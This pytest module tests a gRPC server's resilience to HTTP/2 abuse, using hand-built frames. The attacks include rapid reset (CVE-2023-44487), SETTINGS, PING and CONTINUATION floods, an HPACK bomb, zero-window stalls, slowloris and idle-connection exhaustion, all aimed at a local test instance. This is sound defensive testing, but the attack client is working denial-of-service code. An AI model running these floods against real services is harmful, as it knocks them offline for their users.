"""HTTP/2 abuse: floods, bombs, stalls and slow clients against a chatd of its own.

Each attack runs against one connection (or a crowd of them) for a few seconds while a
well-behaved grpcio client checks health on another connection. For each: chatd stays up,
its resident memory stays within a generous bound, the abusive connection is answered with
GOAWAY, RST_STREAM or a close as the attack warrants, and the health checks all succeed
(their p99 is reported and held to a generous bound only: the machine is shared).

Frames are written by hand (a tiny framer and HPACK by hand or by `hpack`): `h2` refuses to
send most of these. Set CHATD_ABUSE_REPORT=FILE to get each attack's figures as JSON lines.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import threading
import time
from dataclasses import dataclass, field

import grpc
import hpack
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc

from chatd_interop import protos
from chatd_interop.server import ChatdProcess, chatd_binary

StreamingOutputCallRequest = protos.message("grpc.testing.StreamingOutputCallRequest")
ResponseParameters = protos.message("grpc.testing.ResponseParameters")

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
CANCEL, PROTOCOL_ERROR, ENHANCE_YOUR_CALM = 0x8, 0x1, 0xB
MIB = 1024

# The preface timeout of this module's chatd: short, so slow clients are judged quickly.
PREFACE_TIMEOUT = 2.0
# Resident memory an attack may add (KiB). Generous: allocators keep what they freed.
RSS_BOUND_KIB = 96 * MIB
# The health p99 bound during an attack: liveness, not speed (2 shared cores).
P99_BOUND = 2.0


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id)
            + payload)


def request_headers(path: str, extra: list[tuple[str, str]] | None = None) -> list:
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "chatd"), ("content-type", "application/grpc"), ("te", "trailers"),
            *(extra or [])]


def hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) with `first`'s high bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """A literal header with a new name: with incremental indexing, or never indexed."""
    head = b"\x40" if indexed else b"\x10"
    return head + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def grpc_frame(message: bytes) -> bytes:
    return struct.pack(">BI", 0, len(message)) + message


HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_REQUEST = grpc_frame(health_pb2.HealthCheckRequest(service="").SerializeToString())


class Attacker:
    """A raw HTTP/2 client connection that sends what it is told and reads what comes back."""

    def __init__(self, address: str, preface: bool = True, settings: bytes = b"",
                 receive_buffer: int | None = None):
        host, port = address.rsplit(":", 1)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            # A small receive buffer makes the server's writes back up quickly, as a client
            # that never reads would after a while.
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(5)
        self.sock.connect((host, int(port)))
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.pending = b""
        self.goaway: int | None = None
        self.resets: dict[int, int] = {}
        self.ended: set[int] = set()
        self.grpc_statuses: dict[int, str] = {}  # from the server's trailers
        self.closed = False
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data: bytes) -> bool:
        """False once the server has closed the connection (or stopped reading for 5 s)."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            self.closed = True
            return False

    def headers(self, stream_id: int, path: str = HEALTH_CHECK, end_stream: bool = False,
                extra: list[tuple[str, str]] | None = None) -> bytes:
        block = self.encoder.encode(request_headers(path, extra))
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream_id, block)

    def read(self, timeout: float) -> None:
        """Reads what arrives within `timeout`, recording GOAWAY, RST_STREAM and END_STREAM."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                data = self.sock.recv(1 << 20)
            except socket.timeout:
                return
            except (ConnectionResetError, OSError):
                data = b""
            if not data:
                self.closed = True
                return
            self.pending += data
            self._parse()

    def _parse(self) -> None:
        while len(self.pending) >= 9:
            length = int.from_bytes(self.pending[:3], "big")
            if len(self.pending) < 9 + length:
                return
            kind, flags, stream_id = struct.unpack(">BBI", self.pending[3:9])
            payload = self.pending[9 : 9 + length]
            self.pending = self.pending[9 + length :]
            if kind == GOAWAY:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == RST_STREAM:
                self.resets[stream_id] = struct.unpack(">I", payload[:4])[0]
            elif kind in (HEADERS, DATA) and flags & END_STREAM:
                self.ended.add(stream_id)
            if kind == HEADERS:  # every block is decoded: HPACK state is per connection
                headers = dict(self.decoder.decode(payload, raw=True))
                if b"grpc-status" in headers:
                    self.grpc_statuses[stream_id] = headers[b"grpc-status"].decode()

    def wait_answered(self, timeout: float) -> str:
        """Reads until GOAWAY or close; returns which (or 'open' after `timeout`)."""
        deadline = time.monotonic() + timeout
        while self.goaway is None and not self.closed and time.monotonic() < deadline:
            self.read(min(0.2, deadline - time.monotonic()))
        if self.goaway is not None:
            return f"GOAWAY({self.goaway})"
        return "closed" if self.closed else "open"

    def close(self) -> None:
        self.sock.close()


class HealthProbe:
    """Health Check in a loop on its own grpcio connection, timing each call."""

    def __init__(self, address: str):
        self.channel = grpc.insecure_channel(address)
        self.stub = health_pb2_grpc.HealthStub(self.channel)
        self.latencies: list[float] = []
        self.failures: list[str] = []
        self._stop = threading.Event()
        # Connected before the attack starts, so the probe measures calls, not a handshake.
        self.stub.Check(health_pb2.HealthCheckRequest(service=""), timeout=10)
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> HealthProbe:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(timeout=15)
        self.channel.close()

    def _run(self) -> None:
        request = health_pb2.HealthCheckRequest(service="")
        while not self._stop.is_set():
            started = time.monotonic()
            try:
                self.stub.Check(request, timeout=10)
                self.latencies.append(time.monotonic() - started)
            except grpc.RpcError as error:
                self.failures.append(f"{error.code()}: {error.details()}")
            self._stop.wait(0.01)

    @property
    def p99(self) -> float:
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] if ordered else 0.0


@dataclass
class Outcome:
    """What an attack reports besides the probe: how the server answered, what was sent."""
    answer: str
    sent: str
    extra: dict = field(default_factory=dict)


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory):
    """A chatd only the attacks use, so the rest of the suite never sees them."""
    server = ChatdProcess(chatd_binary(), tmp_path_factory.mktemp("chatd-abuse"),
                          extra_args=("--preface-timeout", str(PREFACE_TIMEOUT)))
    try:
        server.start()
    except RuntimeError as error:
        pytest.fail(str(error), pytrace=False)
    yield server
    server.stop()


def under_attack(server: ChatdProcess, name: str, attack) -> Outcome:
    """Runs `attack()` while probing health; checks liveness, memory and the probe."""
    rss_before = server.rss_kib()
    started = time.monotonic()
    with HealthProbe(server.address) as probe:
        outcome = attack()
    seconds = time.monotonic() - started
    rss_after = server.rss_kib()
    report = {
        "attack": name, "answer": outcome.answer, "sent": outcome.sent,
        "seconds": round(seconds, 2), "health_calls": len(probe.latencies),
        "health_failures": len(probe.failures), "health_p99_ms": round(probe.p99 * 1000, 1),
        "rss_before_kib": rss_before, "rss_after_kib": rss_after, **outcome.extra,
    }
    print(json.dumps(report))
    if os.environ.get("CHATD_ABUSE_REPORT"):
        with open(os.environ["CHATD_ABUSE_REPORT"], "a") as out:
            out.write(json.dumps(report) + "\n")
    assert server.is_running(), "chatd died\n" + server.log_tail()
    server.assert_serving()
    assert not probe.failures, probe.failures[:5]
    assert probe.latencies, "no health check completed during the attack"
    assert probe.p99 < P99_BOUND, report
    assert rss_after - rss_before < RSS_BOUND_KIB, report
    return outcome


def test_rapid_reset(target):
    """HEADERS then RST_STREAM at full speed (CVE-2023-44487): nghttp2's reset rate limit
    ends the connection with GOAWAY."""
    def attack() -> Outcome:
        client = Attacker(target.address)
        pairs = 0
        stream_id = 1
        while pairs < 50_000 and not client.closed and client.goaway is None:
            batch = b""
            for _ in range(200):
                batch += client.headers(stream_id)
                batch += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                stream_id += 2
            if not client.send(batch):
                break
            pairs += 200
            client.read(0)
        answer = client.wait_answered(5)
        client.close()
        return Outcome(answer, f"{pairs} HEADERS+RST_STREAM pairs")

    outcome = under_attack(target, "rapid reset", attack)
    assert outcome.answer != "open"


def test_settings_flood(target):
    """SETTINGS frames while never reading their ACKs: the queued ACKs pass nghttp2's outbound
    limit and the connection closes. A SETTINGS frame with too many entries is refused."""
    def attack() -> Outcome:
        client = Attacker(target.address, receive_buffer=4096)
        sent = 0
        burst = frame(SETTINGS, 0, 0) * 10_000
        deadline = time.monotonic() + 8
        while not client.closed and time.monotonic() < deadline and sent < 2_000_000:
            if not client.send(burst):
                break
            sent += 10_000
        answer = client.wait_answered(5)
        client.close()

        crowded = Attacker(target.address, settings=struct.pack(">HI", 0x3, 100) * 100)
        crowded_answer = crowded.wait_answered(5)
        crowded.close()
        return Outcome(answer, f"{sent} SETTINGS frames",
                       {"100-entry SETTINGS answer": crowded_answer})

    outcome = under_attack(target, "SETTINGS flood", attack)
    assert outcome.answer != "open"
    assert outcome.extra["100-entry SETTINGS answer"] != "open"


def test_ping_flood(target):
    """PINGs while never reading the ACKs: nghttp2's outbound ACK limit closes the connection."""
    def attack() -> Outcome:
        client = Attacker(target.address, receive_buffer=4096)
        sent = 0
        burst = frame(PING, 0, 0, b"12345678") * 10_000
        deadline = time.monotonic() + 8
        while not client.closed and time.monotonic() < deadline and sent < 2_000_000:
            if not client.send(burst):
                break
            sent += 10_000
        answer = client.wait_answered(5)
        client.close()
        return Outcome(answer, f"{sent} PING frames")

    outcome = under_attack(target, "PING flood", attack)
    assert outcome.answer != "open"


def test_continuation_flood(target):
    """A header block that never ends (CVE-2024-27316 class): CONTINUATION frames after a
    HEADERS without END_HEADERS. nghttp2 stops after a few and ends the connection."""
    def attack() -> Outcome:
        client = Attacker(target.address)
        first = client.encoder.encode(request_headers(HEALTH_CHECK))
        client.send(frame(HEADERS, 0, 1, first))
        piece = frame(CONTINUATION, 0, 1, literal(b"x-flood", b"v" * 1000))
        sent = 0
        while sent < 100_000 and not client.closed and client.goaway is None:
            if not client.send(piece * 100):
                break
            sent += 100
            client.read(0)
        answer = client.wait_answered(5)
        client.close()
        return Outcome(answer, f"{sent} CONTINUATION frames")

    outcome = under_attack(target, "CONTINUATION flood", attack)
    assert outcome.answer != "open"


def test_header_block_over_the_limit(target):
    """A 64 KiB header list (the advertised SETTINGS_MAX_HEADER_LIST_SIZE is 16 KiB): the
    call is answered RESOURCE_EXHAUSTED, and the connection still serves the next call."""
    def attack() -> Outcome:
        client = Attacker(target.address)
        block = client.encoder.encode(request_headers(HEALTH_CHECK, [("x-big", "b" * 64_000)]))
        pieces = [block[i : i + 16_384] for i in range(0, len(block), 16_384)]
        data = frame(HEADERS, 0, 1, pieces[0])
        for index, piece in enumerate(pieces[1:], start=1):
            data += frame(CONTINUATION, END_HEADERS if index == len(pieces) - 1 else 0, 1, piece)
        client.send(data + frame(DATA, END_STREAM, 1, HEALTH_REQUEST))
        deadline = time.monotonic() + 5
        while 1 not in client.resets and 1 not in client.grpc_statuses \
                and client.goaway is None and not client.closed and time.monotonic() < deadline:
            client.read(0.2)
        if 1 in client.grpc_statuses:
            answer = f"grpc-status {client.grpc_statuses[1]}"
        elif 1 in client.resets:
            answer = f"RST_STREAM({client.resets[1]})"
        else:
            answer = client.wait_answered(0.1)
        # The connection is still usable for a call within the limits.
        client.send(client.headers(3) + frame(DATA, END_STREAM, 3, HEALTH_REQUEST))
        deadline = time.monotonic() + 5
        while 3 not in client.ended and not client.closed and time.monotonic() < deadline:
            client.read(0.2)
        next_call = "answered" if 3 in client.ended else "not answered"
        client.close()
        return Outcome(answer, "one 64 KiB header block", {"next call": next_call})

    outcome = under_attack(target, "header block over the limit", attack)
    # RESOURCE_EXHAUSTED (8), as grpc-core answers, rather than a reset a client reads as
    # INTERNAL; the connection serves the next call.
    assert outcome.answer == "grpc-status 8"
    assert outcome.extra["next call"] == "answered"


def test_hpack_bomb(target):
    """One 4 KB header value put in the dynamic table, then a header block of 16,000 one-byte
    references to it (64 MB once decoded), on stream after stream: each is answered
    RESOURCE_EXHAUSTED once past the header budget, nothing past it is kept; memory stays
    flat."""
    def attack() -> Outcome:
        client = Attacker(target.address)
        answers = set()
        streams = 0
        for index in range(40):
            stream_id = 1 + 2 * index
            # A fresh encoder context per block: the pseudo-headers as never-indexed literals,
            # so the big entry is always dynamic index 62 (the first after the static table).
            block = b"".join(literal(n.encode(), v.encode())
                             for n, v in request_headers(HEALTH_CHECK))
            block += literal(b"x-bomb", b"a" * 4000, indexed=True)
            block += bytes([0x80 | 62]) * 12_000
            if not client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block)):
                break
            streams += 1
            client.read(0.05)
        client.wait_answered(1)
        for stream_id in client.resets:
            answers.add(f"RST_STREAM({client.resets[stream_id]})")
        for status in client.grpc_statuses.values():
            answers.add(f"grpc-status {status}")
        if client.goaway is not None:
            answers.add(f"GOAWAY({client.goaway})")
        if client.closed:
            answers.add("closed")
        client.close()
        return Outcome(",".join(sorted(answers)) or "open",
                       f"{streams} header blocks of 12,000 references to a 4 KB entry",
                       {"streams reset": len(client.resets)})

    outcome = under_attack(target, "HPACK bomb", attack)
    assert outcome.answer != "open"


def test_zero_window_stall(target):
    """A client that opens streaming calls and never opens a window: each stream holds at
    most its queue (64 KiB), and the calls' deadlines reset them though no trailers can go."""
    request = StreamingOutputCallRequest(
        response_parameters=[ResponseParameters(size=64_000) for _ in range(200)])
    body = grpc_frame(request.SerializeToString())

    def attack() -> Outcome:
        client = Attacker(target.address,
                          settings=struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0))
        streams = [1 + 2 * i for i in range(100)]
        data = b""
        for stream_id in streams:
            data += client.headers(stream_id, "/grpc.testing.TestService/StreamingOutputCall",
                                   extra=[("grpc-timeout", "2S")])
            data += frame(DATA, END_STREAM, stream_id, body)
        client.send(data)
        deadline = time.monotonic() + 8
        while len(client.resets) < len(streams) and not client.closed \
                and time.monotonic() < deadline:
            client.read(0.2)
        reset = sum(1 for s in streams if s in client.resets)
        client.close()
        answer = f"{reset}/{len(streams)} streams RST_STREAM at their deadline"
        return Outcome(answer, "100 StreamingOutputCall of 200 x 64 KB, window 0",
                       {"streams reset": reset})

    outcome = under_attack(target, "zero-window stall", attack)
    assert outcome.extra["streams reset"] == 100


def test_many_idle_connections(target):
    """400 connections that finish the preface and then say nothing, and 200 that never
    send it: the silent ones are closed at the preface timeout, memory stays bounded."""
    def attack() -> Outcome:
        idle = [Attacker(target.address) for _ in range(400)]
        silent = [Attacker(target.address, preface=False) for _ in range(200)]
        time.sleep(1)
        rss_with_all = target.rss_kib()
        deadline = time.monotonic() + PREFACE_TIMEOUT + 4
        for client in silent:
            client.wait_answered(max(0.01, deadline - time.monotonic()))
        closed_silent = sum(1 for c in silent if c.closed or c.goaway is not None)
        for client in idle:
            client.read(0)
        open_idle = sum(1 for c in idle if not c.closed and c.goaway is None)
        for client in idle + silent:
            client.close()
        return Outcome(f"{closed_silent}/200 preface-less connections closed",
                       "400 idle + 200 preface-less connections",
                       {"idle still open": open_idle, "rss_with_all_kib": rss_with_all,
                        "closed_silent": closed_silent})

    outcome = under_attack(target, "many idle connections", attack)
    assert outcome.extra["closed_silent"] == 200


def test_slowloris_preface(target):
    """Twenty clients trickling the preface one byte a second: closed at the preface
    timeout, long before they finish."""
    def attack() -> Outcome:
        clients = [Attacker(target.address, preface=False) for _ in range(20)]
        started = time.monotonic()
        sent = 0
        while time.monotonic() - started < PREFACE_TIMEOUT + 4 and sent < len(PREFACE) \
                and not all(c.closed for c in clients):
            for client in clients:
                client.send(PREFACE[sent : sent + 1])
            sent += 1
            for client in clients:
                client.read(0.05)
            time.sleep(max(0.0, started + sent - time.monotonic()))
        for client in clients:
            client.wait_answered(0.5)
        closed = sum(1 for c in clients if c.closed)
        elapsed = time.monotonic() - started
        for client in clients:
            client.close()
        return Outcome(f"{closed}/20 closed after {elapsed:.1f} s", f"{sent} preface bytes each",
                       {"closed": closed})

    outcome = under_attack(target, "slowloris preface", attack)
    assert outcome.extra["closed"] == 20


def test_stream_id_exhaustion(target):
    """The highest stream id (2^31 - 1) is served, and then the connection drains with GOAWAY
    (no stream can follow it); a client wrapping around to stream 1 gets no new call."""
    def attack() -> Outcome:
        client = Attacker(target.address)
        highest = 2**31 - 1
        client.send(client.headers(highest - 2) + frame(DATA, END_STREAM, highest - 2,
                                                        HEALTH_REQUEST))
        client.send(client.headers(highest) + frame(DATA, END_STREAM, highest, HEALTH_REQUEST))
        deadline = time.monotonic() + 5
        while highest not in client.ended and not client.closed and time.monotonic() < deadline:
            client.read(0.2)
        served = highest in client.ended and highest - 2 in client.ended
        client.send(client.headers(1) + frame(DATA, END_STREAM, 1, HEALTH_REQUEST))
        answer = client.wait_answered(5)
        client.read(0.5)
        wrapped_answered = 1 in client.ended
        client.close()
        return Outcome(answer, "streams 2^31-3 and 2^31-1, then 1",
                       {"highest ids served": served, "stream 1 served": wrapped_answered})

    outcome = under_attack(target, "stream-id exhaustion", attack)
    assert outcome.extra["highest ids served"]
    assert not outcome.extra["stream 1 served"]
    assert outcome.answer.startswith("GOAWAY") or outcome.answer == "closed"
